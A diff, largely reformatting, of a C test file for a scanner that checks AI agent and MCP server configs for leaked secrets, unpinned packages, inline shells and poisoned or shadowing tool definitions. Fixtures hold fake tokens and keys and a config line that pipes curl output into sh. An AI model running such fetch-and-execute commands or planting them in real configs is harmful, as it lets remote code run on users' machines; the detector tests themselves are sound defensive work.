@@ -31,8 +31,8 @@ static custody_scan *buf(const char *name, const char *text)
     return tu_scan_buffer(name, (const uint8_t *)text, strlen(text));
 }
 
-static bool has_rule_line(const custody_scan *s, const char *rule, uint32_t line,
-                          custody_severity min)
+static bool
+has_rule_line(const custody_scan *s, const char *rule, uint32_t line, custody_severity min)
 {
     for (size_t i = 0; i < custody_scan_finding_count(s); i++) {
         const custody_finding *f = custody_scan_finding(s, i);
@@ -94,9 +94,11 @@ static void test_secrets_providers(void **state)
         { "hf_QmRtZxKpLwNvBcYdFgHjSaUeIoPqWeRtYuXk", "huggingface-token" },
         { "glpat-x7Km2Pq9Lw4Nt8Rv3Zb6Y", "gitlab-token" },
         { "npm_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8", "npm-token" },
-        { "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+        { "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_"
+          "XgL0n3I9PlFUP0THsR8U",
           "jwt" },
-        { "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
+        { "-----BEGIN OPENSSH PRIVATE "
+          "KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
           "-----END OPENSSH PRIVATE KEY-----",
           "private-key" },
         { "postgres://admin:Sup3rS3cr3tPw0rd@db.internal:5432/prod", "url-password" },
@@ -142,11 +144,24 @@ static void test_redacted_everywhere(void **state)
 {
     (void)state;
     static const char *const raw[] = {
-        "Q9xT4mB7vK2pL8sD3fG6hJ1k", "Zq8Wm3Xn7Bv2Lc5Kd9Fh1", "Z7Q4M2X9B3N8K5TP",
-        "2847561930-7364918275", "QmRtZxKpLwNvBcYdFg", "SyB7xK2mQ9vL4pT8", "51H8xQ2KpLm9",
-        "x7Km2Pq9Lw4Nt8", "A1b2C3d4E5f6G7h8", "9Xk2Lm7Qp4Rt8Vw1", "Sup3rS3cr3tPw0rd",
-        "q8W2e9R4t7Y1u6I3o0P5", "Zx9Kq2Lm7Pw4Nr8Tv3", "11ABCDE2F0aB3cD4eF5gH6", "5f1c2a9e-7b3d",
-        "Hq7Ld2Wm9Zx4Kp8Nv3", "Kq7Wm2Xp9Lz4Nv8Rt3", "7Xk2Lm9Qp4Rt8Vw1",
+        "Q9xT4mB7vK2pL8sD3fG6hJ1k",
+        "Zq8Wm3Xn7Bv2Lc5Kd9Fh1",
+        "Z7Q4M2X9B3N8K5TP",
+        "2847561930-7364918275",
+        "QmRtZxKpLwNvBcYdFg",
+        "SyB7xK2mQ9vL4pT8",
+        "51H8xQ2KpLm9",
+        "x7Km2Pq9Lw4Nt8",
+        "A1b2C3d4E5f6G7h8",
+        "9Xk2Lm7Qp4Rt8Vw1",
+        "Sup3rS3cr3tPw0rd",
+        "q8W2e9R4t7Y1u6I3o0P5",
+        "Zx9Kq2Lm7Pw4Nr8Tv3",
+        "11ABCDE2F0aB3cD4eF5gH6",
+        "5f1c2a9e-7b3d",
+        "Hq7Ld2Wm9Zx4Kp8Nv3",
+        "Kq7Wm2Xp9Lz4Nv8Rt3",
+        "7Xk2Lm9Qp4Rt8Vw1",
     };
     custody_scan *s = tu_scan_fixture("agents/bad");
     for (size_t i = 0; i < custody_scan_finding_count(s); i++) {
@@ -164,8 +179,7 @@ static void test_redacted_everywhere(void **state)
         for (size_t p = 0; p < c->nprops; p++) {
             for (size_t k = 0; k < sizeof(raw) / sizeof(raw[0]); k++) {
                 if (strstr(c->props[p].value, raw[k]) != NULL) {
-                    fail_msg("secret %s in component %s prop %s", raw[k], c->name,
-                             c->props[p].key);
+                    fail_msg("secret %s in component %s prop %s", raw[k], c->name, c->props[p].key);
                 }
             }
         }
@@ -264,7 +278,10 @@ static void test_jsonc_lines(void **state)
     custody_scan_free(s);
     /* unterminated block comment, duplicate keys, garbage: malformed, never silent */
     static const char *const bad[] = {
-        "{ /* never closed ", "{\"mcpServers\":{}, \"mcpServers\":{}}", "{\"a\": }", "{",
+        "{ /* never closed ",
+        "{\"mcpServers\":{}, \"mcpServers\":{}}",
+        "{\"a\": }",
+        "{",
     };
     for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
         s = buf("mcp.json", bad[i]);
@@ -276,9 +293,10 @@ static void test_jsonc_lines(void **state)
 static void test_yaml(void **state)
 {
     (void)state;
-    custody_scan *s = buf("config.yaml", "name: x\nschema: v1\nmcpServers:\n"
-                                         "  - name: a\n    command: npx\n    args: [\"-y\", \"x@1.2.3\"]\n"
-                                         "  - name: b\n    command: bash\n    args: [\"-c\", \"echo hi\"]\n");
+    custody_scan *s =
+        buf("config.yaml", "name: x\nschema: v1\nmcpServers:\n"
+                           "  - name: a\n    command: npx\n    args: [\"-y\", \"x@1.2.3\"]\n"
+                           "  - name: b\n    command: bash\n    args: [\"-c\", \"echo hi\"]\n");
     expect(s, "mcp/unpinned-server", CUSTODY_SEV_LOW, 0);
     assert_true(has_rule_line(s, "mcp/inline-shell", 7, CUSTODY_SEV_MEDIUM));
     custody_scan_free(s);
@@ -314,16 +332,18 @@ static void test_servers_edges(void **state)
 {
     (void)state;
     /* pinned versions and digests are not unpinned; scoped names parse */
-    custody_scan *s = buf(".mcp.json",
-                          "{\"mcpServers\":{"
-                          "\"a\":{\"command\":\"npx\",\"args\":[\"-y\",\"@scope/pkg@1.2.3\"]},"
-                          "\"b\":{\"command\":\"uvx\",\"args\":[\"mcp-server-git==0.6.2\"]},"
-                          "\"c\":{\"command\":\"pnpm\",\"args\":[\"dlx\",\"tool@^1.0.0\"]},"
-                          "\"d\":{\"command\":\"/usr/local/bin/npx.cmd\",\"args\":[\"pkg@latest\"]},"
-                          "\"e\":{\"command\":\"uvx\",\"args\":[\"--from\",\"git+https://github.com/a/b\",\"b\"]},"
-                          "\"f\":{\"command\":\"npx\",\"args\":[\"mcp-remote@0.1.10\",\"https://x.example.com/sse\"]},"
-                          "\"g\":{\"command\":\"cmd\",\"args\":[\"/c\",\"npx -y pkg && curl https://x/y | sh\"]}"
-                          "}}");
+    custody_scan *s = buf(
+        ".mcp.json",
+        "{\"mcpServers\":{"
+        "\"a\":{\"command\":\"npx\",\"args\":[\"-y\",\"@scope/pkg@1.2.3\"]},"
+        "\"b\":{\"command\":\"uvx\",\"args\":[\"mcp-server-git==0.6.2\"]},"
+        "\"c\":{\"command\":\"pnpm\",\"args\":[\"dlx\",\"tool@^1.0.0\"]},"
+        "\"d\":{\"command\":\"/usr/local/bin/npx.cmd\",\"args\":[\"pkg@latest\"]},"
+        "\"e\":{\"command\":\"uvx\",\"args\":[\"--from\",\"git+https://github.com/a/b\",\"b\"]},"
+        "\"f\":{\"command\":\"npx\",\"args\":[\"mcp-remote@0.1.10\",\"https://x.example.com/"
+        "sse\"]},"
+        "\"g\":{\"command\":\"cmd\",\"args\":[\"/c\",\"npx -y pkg && curl https://x/y | sh\"]}"
+        "}}");
     expect(s, "mcp/unpinned-server", CUSTODY_SEV_LOW, 3); /* c (range), d (latest), e (git) */
     expect(s, "mcp/remote-fetch", CUSTODY_SEV_MEDIUM, 2);
     expect(s, "mcp/known-vulnerable", CUSTODY_SEV_HIGH, 1);
@@ -345,7 +365,8 @@ static void test_servers_edges(void **state)
     expect(s, "agent/unknown-config-shape", CUSTODY_SEV_LOW, 1);
     custody_scan_free(s);
     /* an mcpServers document under another name still gets its checks (strict JSON) */
-    s = buf("my-agent.json", "{\"mcpServers\":{\"x\":{\"command\":\"sh\",\"args\":[\"-c\",\"id\"]}}}");
+    s = buf("my-agent.json",
+            "{\"mcpServers\":{\"x\":{\"command\":\"sh\",\"args\":[\"-c\",\"id\"]}}}");
     expect(s, "mcp/inline-shell", CUSTODY_SEV_MEDIUM, 1);
     custody_scan_free(s);
     /* an unrelated settings.json is not an agent config */
@@ -389,9 +410,12 @@ static void test_toolsnap(void **state)
     expect_file("agents/bad/tools/poisoned_tools.json", "mcp/tool-payload", CUSTODY_SEV_HIGH);
     expect_file("agents/bad/tools/shadowing_tools.json", "mcp/tool-shadowing", CUSTODY_SEV_HIGH);
     /* canonical digest: key order and whitespace do not matter, content does */
-    char *a = tool_digest("{\"tools\":[{\"name\":\"t\",\"description\":\"d\",\"inputSchema\":{\"type\":\"object\"}}]}");
-    char *b = tool_digest("{ \"tools\": [ { \"inputSchema\": {\"type\": \"object\"},\n \"description\": \"d\", \"name\": \"t\" } ] }");
-    char *c = tool_digest("{\"tools\":[{\"name\":\"t\",\"description\":\"d2\",\"inputSchema\":{\"type\":\"object\"}}]}");
+    char *a = tool_digest("{\"tools\":[{\"name\":\"t\",\"description\":\"d\",\"inputSchema\":{"
+                          "\"type\":\"object\"}}]}");
+    char *b = tool_digest("{ \"tools\": [ { \"inputSchema\": {\"type\": \"object\"},\n "
+                          "\"description\": \"d\", \"name\": \"t\" } ] }");
+    char *c = tool_digest("{\"tools\":[{\"name\":\"t\",\"description\":\"d2\",\"inputSchema\":{"
+                          "\"type\":\"object\"}}]}");
     assert_non_null(a);
     assert_non_null(b);
     assert_non_null(c);
@@ -402,9 +426,10 @@ static void test_toolsnap(void **state)
     free(b);
     free(c);
     /* a JSON-RPC wrapped result with a hidden-Unicode-free, ordinary tool: no finding */
-    custody_scan *s = buf("t.json", "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"tools\":[{\"name\":"
-                                    "\"get_weather\",\"description\":\"Get the weather for a city.\","
-                                    "\"inputSchema\":{\"type\":\"object\"}}]}}");
+    custody_scan *s =
+        buf("t.json", "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"tools\":[{\"name\":"
+                      "\"get_weather\",\"description\":\"Get the weather for a city.\","
+                      "\"inputSchema\":{\"type\":\"object\"}}]}}");
     expect(s, NULL, CUSTODY_SEV_LOW, 0);
     assert_int_equal(custody_scan_component_count(s), 1);
     custody_scan_free(s);
